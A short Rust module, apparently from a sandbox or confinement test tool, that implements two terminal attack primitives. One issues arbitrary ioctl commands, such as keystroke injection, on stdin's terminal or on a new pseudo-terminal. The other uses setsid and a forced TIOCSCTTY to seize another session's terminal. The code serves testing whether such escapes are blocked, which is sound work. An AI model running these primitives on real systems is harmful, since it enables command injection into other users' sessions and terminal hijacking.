//! Attacks by terminals: typing for whoever sits there.

use crate::Primitive;
use crate::sys::{Arg, Attempt, arg, attempt, call, int, last};

pub const PRIMITIVES: &[Primitive] = &[("tty-ioctl", tty_ioctl), ("take-terminal", take_terminal)];

/// `tty-ioctl COMMAND stdin|own BYTE`: with standard input's terminal, or with one made here that this process
/// controls. The command is passed with all its 64 bits.
fn tty_ioctl(args: &[String]) -> Attempt {
    let fd = if arg(args, 1) == "own" { own_terminal()? } else { 0 };
    let byte = [int(args, 2) as u8; 8];
    attempt(libc::SYS_ioctl, &mut [Arg::Int(fd), Arg::Int(int(args, 0)), Arg::In(&byte)])
}

/// A pseudo-terminal that is this process's controlling terminal; its slave.
fn own_terminal() -> Result<i64, i32> {
    // SAFETY: takes a number and makes a descriptor.
    let master = unsafe { libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY) };
    if master < 0 {
        return Err(last());
    }
    let unlock = [0; 4];
    call(
        libc::SYS_ioctl,
        &mut [Arg::Int(master.into()), Arg::Int(libc::TIOCSPTLCK as i64), Arg::In(&unlock)],
    )?;
    let flags = libc::O_RDWR | libc::O_NOCTTY;
    let slave = call(
        libc::SYS_ioctl,
        &mut [Arg::Int(master.into()), Arg::Int(libc::TIOCGPTPEER as i64), Arg::Int(flags.into())],
    )?;
    // Fails for one that leads a session already, which then takes the terminal as it is.
    let _ = call(libc::SYS_setsid, &mut []);
    let _ = call(libc::SYS_ioctl, &mut [Arg::Int(slave), Arg::Int(libc::TIOCSCTTY as i64), Arg::Int(0)]);
    Ok(slave)
}

/// Makes standard input's terminal, which is another session's, its own.
fn take_terminal(_: &[String]) -> Attempt {
    let _ = call(libc::SYS_setsid, &mut []);
    attempt(libc::SYS_ioctl, &mut [Arg::Int(0), Arg::Int(libc::TIOCSCTTY as i64), Arg::Int(1)])
}
